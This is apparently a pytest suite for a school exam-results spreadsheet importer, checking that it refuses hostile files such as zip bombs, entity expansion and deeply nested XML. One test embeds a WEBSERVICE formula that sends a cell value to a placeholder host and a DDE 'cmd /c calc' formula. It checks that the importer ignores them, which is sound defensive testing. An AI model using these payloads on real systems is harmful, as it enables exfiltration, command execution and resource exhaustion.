"""Every reason to refuse a whole file: quickly, in little memory, with a code and a sentence that says what to do."""

import copy
import re
import struct
import time
import tracemalloc
import zipfile
from functools import lru_cache
from pathlib import Path

import pytest

from app.core.errors import AppError
from app.importers.results import refusals
from app.importers.results.registry import read_result_file
from tests.importers.results.books import (
    biff,
    bomb,
    book_of,
    edit_zip,
    ole,
    sheet_xml,
    with_sheet_xml,
    write_book,
    write_zip,
    zip_bytes,
)

DATA = Path(__file__).resolve().parents[2] / "data" / "results"
FORM = """
Код   | Вариант | 1 (1б) | 2 (2б)
40001 | 1       | 1      | 2
"""
TYPES = "[Content_Types].xml"
FAR = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'


def missing(path):
    return path.with_name("нет такого.xlsx")


def a_folder(path):
    path.mkdir()
    return path


def no_bytes(path):
    path.write_bytes(b"")
    return path


def only_zeros(path):
    path.write_bytes(bytes(5000))
    return path


def no_cells(path):
    return write_book(path, {"Лист1": [], "Лист2": []})


def half_a_zip(path):
    book_of(path, FORM)
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])
    return path


def a_byte_changed(path):
    book_of(path, FORM)
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    raw = bytearray(path.read_bytes())
    raw[info.header_offset + 90] ^= 0xFF
    path.write_bytes(raw)
    return path


def broken_xml(path):
    return with_sheet_xml(path, sheet_xml('<row r="1"><c s="1" r="A1"><v>1</v></row>'))


def half_an_ole(path):
    path.write_bytes(ole({"Workbook": biff((0, 0, 1))})[:700])
    return path


def broken_list_of_sheets(path):
    book_of(path, FORM)
    return edit_zip(path, "xl/workbook.xml", lambda xml: xml[: len(xml) // 2])


def xls_that_points_beyond_its_end(path):
    sheet = struct.pack("<2HI2B2B5s", 0x85, 13, 999_999, 0, 0, 5, 0, b"sheet")
    begin = struct.pack("<2H4H", 0x0809, 8, 0x0600, 0x0005, 0, 0)
    path.write_bytes(ole({"Workbook": begin + sheet + struct.pack("<2H", 0x0A, 0)}))
    return path


def a_ring_of_sectors(path):
    raw = bytearray(ole({"Workbook": biff((0, 0, 1))}))
    fat = raw.rindex(b"\xfd\xff\xff\xff") // 512 * 512
    raw[fat : fat + 4] = bytes(4)
    path.write_bytes(raw)
    return path


def password_of_xlsx(path):
    path.write_bytes(ole({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": bytes(9000)}))
    return path


def password_of_xls(_path):
    return DATA / "password.xls"


def password_of_ods(_path):
    return DATA / "password.ods"


def zip_with_password(path):
    raw = bytearray(zip_bytes({TYPES: b"x", "xl/workbook.xml": b"y"}))
    for mark, shift in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        for found in re.finditer(re.escape(mark), bytes(raw)):
            raw[found.start() + shift] |= 1
    path.write_bytes(raw)
    return path


def word(path):
    return write_zip(
        path, {TYPES: b"application/vnd...wordprocessingml.document.main+xml", "word/document.xml": b"<w/>"}
    )


def old_word(path):
    path.write_bytes(ole({"WordDocument": bytes(5000)}))
    return path


def archive(path):
    return write_zip(path, {"протокол.xlsx": b"PK", "прочти.txt": b"1"})


def pdf(path):
    path.write_bytes(b"%PDF-1.7\n1 0 obj")
    return path


def web_page(path):
    path.write_text("<html><table><tr><td>Код</td></tr></table></html>", "utf-8")
    return path


def binary_workbook(path):
    return write_zip(path, {TYPES: b"application/vnd.ms-excel.sheet.binary.macroEnabled.main", "xl/workbook.bin": b"1"})


def prose(path):
    path.write_text("Просто письмо без таблицы.\nВторая строка.", "utf-8")
    return path


def noise(path):
    path.write_bytes(bytes(range(256)) * 20)
    return path


def far_cell(path):
    return with_sheet_xml(path, sheet_xml(FAR))


def far_cell_hidden_by_dimension(path):
    xml = sheet_xml(FAR).replace(b"<sheetData>", b'<dimension ref="A1:B2"/><sheetData>')
    return with_sheet_xml(path, xml)


def far_cell_written_oddly(path):
    return with_sheet_xml(path, sheet_xml(FAR.replace('r="XFD1048576"', "s='1'  r='XFD1048576'")))


def far_cell_with_prefixes(path):
    xml = sheet_xml(FAR).replace(b"xmlns=", b"xmlns:x=")
    for tag in (b"worksheet", b"sheetData", b"row", b"c ", b"c>", b"v>"):
        xml = xml.replace(b"<" + tag, b"<x:" + tag).replace(b"</" + tag, b"</x:" + tag)
    return with_sheet_xml(path, xml)


def far_cell_without_references(path):
    return with_sheet_xml(path, sheet_xml(f'<row r="900000">{"<c><v>1</v></c>" * 600}</row>'))


def ten_thousand_columns(path):
    return write_book(path, {"Лист1": [[1] * 10_000]})


def too_wide_text(path):
    path.write_text("Код;" * 2000 + "\n" + "1;" * 2000, "utf-8")
    return path


def far_cell_of_xls(path):
    path.write_bytes(ole({"Workbook": biff((0, 0, 1), (65535, 65535, 1))}))
    return path


def far_cell_of_ods(path):
    path.write_bytes((DATA / "form.ods").read_bytes())
    cell = (
        b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell/></table:table-row><table:table-row>'
        b'<table:table-cell table:number-columns-repeated="16000"/>'
        b'<table:table-cell office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell>'
        b"</table:table-row></table:table>"
    )
    return edit_zip(path, "content.xml", lambda xml: xml.replace(b"</table:table>", cell, 1))


@lru_cache
def bomb_bytes(folder):
    """A workbook whose sheet unpacks to 300 MB of blanks."""
    return with_sheet_xml(folder / "bomb.xlsx", bomb(300 << 20)).read_bytes()


def bomb_of_a_sheet(path):
    path.write_bytes(bomb_bytes(path.parent.parent))
    return path


def bomb_with_a_false_size(path):
    size = (len(bomb(0)) + (300 << 20)).to_bytes(4, "little")
    path.write_bytes(bomb_bytes(path.parent.parent).replace(size, (500).to_bytes(4, "little")))
    return path


def entities(path):
    declared = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]><worksheet'
    xml = sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&c;</t></is></c></row>')
    return with_sheet_xml(path, xml.replace(b"<worksheet", declared))


def thousands_of_parts(path):
    return write_zip(path, {TYPES: b"x", **{f"xl/{number}.xml": b"<a/>" for number in range(3000)}})


def one_long_text_everywhere(path):
    cells = "".join(f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(1, 50_001))
    with_sheet_xml(path, sheet_xml(cells))
    strings = b"<sst><si><t>" + b"a" * 32_000 + b"</t></si></sst>"
    return edit_zip(path, "xl/sharedStrings.xml", lambda _old: strings)


def one_long_text_written_oddly(path):
    cells = "".join(f"<row r='{r}'><c t = 's' r='A{r}'><v> 0 </v></c></row>" for r in range(1, 5_001))
    with_sheet_xml(path, sheet_xml(cells))
    strings = b"<x:sst><x:si><x:t>" + b"a" * 32_000 + b"</x:t></x:si></x:sst>"
    return edit_zip(path, "xl/sharedStrings.xml", lambda _old: strings)


def one_text_of_megabytes(path):
    text = "а" * (5 << 20)
    return with_sheet_xml(path, sheet_xml(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row>'))


def millions_of_strings(path):
    book_of(path, FORM)
    return edit_zip(path, "xl/sharedStrings.xml", lambda _old: b"<sst>" + b"<si/>" * 4_100_000 + b"</sst>")


def many_merged_cells(path):
    merged = b"</sheetData><mergeCells>" + b'<mergeCell ref="A5:B5"/>' * 100_001 + b"</mergeCells>"
    return with_sheet_xml(path, sheet_xml("").replace(b"</sheetData>", merged))


def tags_in_tags(path):
    deep = "<a>" * 500_000 + "</a>" * 500_000
    return with_sheet_xml(path, sheet_xml(f"<row><c><v>1</v></c>{deep}</row>"))


def far_cell_with_a_prefix_of_its_own(path):
    cell = '<x:c r="XFD1048576"><x:v>1</x:v></x:c>'
    return with_sheet_xml(path, sheet_xml(f'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576">{cell}</row>'))


def entries_that_share_their_bytes(path):
    """Central directory of a thousand names for one part of 150 KB."""
    book_of(path, FORM)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/o.xml", bytes(150_000))
        for number in range(1_000):
            again = copy.copy(archive.getinfo("xl/o.xml"))
            again.filename = f"xl/o{number}.xml"
            archive.filelist.append(again)
    return path


def million_rows(path):
    rows = "".join(f'<row r="{r}"><c r="C{r}"><v>0</v></c></row>' for r in range(1, 301_000))
    return with_sheet_xml(path, sheet_xml(rows))


def ods_with(path, rows, after=b"</table:table-row>"):
    path.write_bytes((DATA / "form.ods").read_bytes())
    return edit_zip(path, "content.xml", lambda xml: xml.replace(after, after + rows, 1))


def ods_cell(text, count=b"1"):
    return (
        b'<table:table-cell office:value-type="string" table:number-columns-repeated="' + count + b'"><text:p>' + text
        + b"</text:p></table:table-cell>"
    )  # fmt: skip


def ods_text_in_every_row(path):
    return ods_with(
        path,
        b'<table:table-row table:number-rows-repeated="20000">'
        + ods_cell(b"a" * 30_000, b"20")
        + b"</table:table-row>",
    )


def ods_of_spaces(path):
    return ods_with(path, b"<table:table-row>" + ods_cell(b'<text:s text:c="2000000000"/>') + b"</table:table-row>")


def ods_with_hidden_counts(path):
    cell = ods_cell(b"1", b"&#49;0000000")
    return ods_with(path, b"<table:table-row>" + cell + b"</table:table-row>")


def ods_of_repeated_cells(path):
    cell = b'<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="900"/>'
    return ods_with(path, b'<table:table-row table:number-rows-repeated="9000">' + cell + b"</table:table-row>")


def one_endless_line(path):
    path.write_text("Код;Вариант;1 (1б)\n40001;1;1\n" + "1;" * 600_000, "utf-8")
    return path


def endless_empty_lines(path):
    path.write_text("Код;Вариант;1 (1б)\n40001;1;1\n" + "\n" * 300_001, "utf-8")
    return path


def text_with_zero_bytes(path):
    path.write_bytes("Код;Вариант;1 (1б)\n40001\0;1;1\n".encode())
    return path


def foreign_workbook(path):
    return book_of(path, "Товар | Цена | Количество\nПарта | 5000 | 3\nСтул | 1500 | 9")


REFUSED = {
    "missing": (missing, a_folder),
    "empty": (no_bytes, only_zeros, no_cells),
    "truncated": (
        half_a_zip,
        a_byte_changed,
        broken_xml,
        half_an_ole,
        broken_list_of_sheets,
        xls_that_points_beyond_its_end,
        a_ring_of_sectors,
    ),
    "encrypted": (password_of_xlsx, password_of_xls, password_of_ods, zip_with_password),
    "renamed": (word, old_word, archive, pdf, web_page),
    "binary_workbook": (binary_workbook,),
    "not_a_workbook": (prose, noise, text_with_zero_bytes),
    "too_large": (
        far_cell,
        far_cell_hidden_by_dimension,
        far_cell_written_oddly,
        far_cell_with_prefixes,
        far_cell_without_references,
        ten_thousand_columns,
        far_cell_of_xls,
        too_wide_text,
        far_cell_of_ods,
        far_cell_with_a_prefix_of_its_own,
        ods_of_repeated_cells,
        million_rows,
        one_endless_line,
        endless_empty_lines,
    ),
    "hostile": (
        bomb_of_a_sheet,
        bomb_with_a_false_size,
        entities,
        thousands_of_parts,
        entries_that_share_their_bytes,
        one_long_text_everywhere,
        one_long_text_written_oddly,
        one_text_of_megabytes,
        millions_of_strings,
        many_merged_cells,
        tags_in_tags,
        ods_text_in_every_row,
        ods_of_spaces,
        ods_with_hidden_counts,
    ),
    "unrecognised": (foreign_workbook,),
}


@pytest.mark.parametrize(("code", "make"), [(code, make) for code, makers in REFUSED.items() for make in makers])
def test_is_refused_with_its_reason(tmp_path, code, make):
    path = make(tmp_path / "Математика 5 класс.xlsx")
    with pytest.raises(AppError) as caught:
        read_result_file(path)
    assert caught.value.code == code
    assert path.name in caught.value.message


@pytest.mark.parametrize("make", [bomb_of_a_sheet, bomb_with_a_false_size, far_cell, one_long_text_everywhere])
def test_a_refusal_needs_little_time_and_memory(tmp_path, make):
    path = make(tmp_path / "Бомба.xlsx")
    tracemalloc.start()
    start = time.perf_counter()
    with pytest.raises(AppError):
        read_result_file(path)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.perf_counter() - start < 10
    assert peak < 100 << 20


def test_every_refusal_has_a_code_of_its_own_and_a_russian_sentence():
    kinds = [item for item in vars(refusals).values() if isinstance(item, type) and issubclass(item, AppError)]
    own = [kind for kind in kinds if issubclass(kind, refusals.ResultFileError)]
    assert len({kind.reason for kind in own}) == len(own) >= 11
    for kind in own:
        message = kind(file="Ф1.xlsx", actual="архив", what="в нём бомба").message
        assert "Ф1.xlsx" in message
        assert message.endswith(".")
        assert "{" not in message


def test_styled_empty_cells_far_away_do_no_harm(tmp_path):
    path = book_of(tmp_path / "Математика 5 класс ВПР 2026.xlsx", FORM)
    far = b'<row r="1048576"><c r="XFD1048576" s="1"/></row></sheetData>'
    edit_zip(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", far))
    assert len(read_result_file(path).participants) == 1


SPACES_AND_TWINS = (
    b"<table:table-row>" + ods_cell(b'4<text:s text:c="3"/>') + ods_cell(b"1", b"2") + b"</table:table-row>"
)


@pytest.mark.parametrize("rows", [SPACES_AND_TWINS, SPACES_AND_TWINS * 2])
def test_honest_repetitions_of_an_ods_are_read(tmp_path, rows):
    path = ods_with(tmp_path / "Математика 5 класс ВПР 2026.ods", rows)
    assert read_result_file(path).participants


def test_formulas_and_links_are_left_alone(tmp_path):
    path = book_of(tmp_path / "Математика 5 класс ВПР 2026.xlsx", FORM)
    row = b"""<row r="3"><c r="A3"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>40002</v></c><c r="B3"><v>1</v></c>\
<c r="C3"><f>[1]Sheet!A1</f><v>1</v></c><c r="D3"><f>cmd|"/c calc"!A0</f><v>2</v></c></row></sheetData>"""
    edit_zip(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", row))
    edit_zip(path, "xl/externalLinks/externalLink1.xml", lambda _old: b"<externalLink/>")
    assert [row.code for row in read_result_file(path).participants] == ["40001", "40002"]


def test_a_quote_that_is_never_closed_swallows_no_rows(tmp_path):
    path = tmp_path / "Математика 5 класс ВПР 2026.csv"
    path.write_text('Код;Вариант;1 (1б)\n40001;1;1\n40002;"1;1\n40003;1;1\n', "utf-8")
    assert [row.code for row in read_result_file(path).participants] == ["40001", "40002", "40003"]


def test_a_sheet_of_a_million_empty_rows_is_read(tmp_path):
    path = book_of(tmp_path / "Математика 5 класс ВПР 2026.xlsx", FORM)
    empty = "".join(f'<row r="{r}"/>' for r in range(3, 100_000)).encode() + b'<row r="1048576"/></sheetData>'
    edit_zip(path, "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"</sheetData>", empty))
    assert len(read_result_file(path).participants) == 1
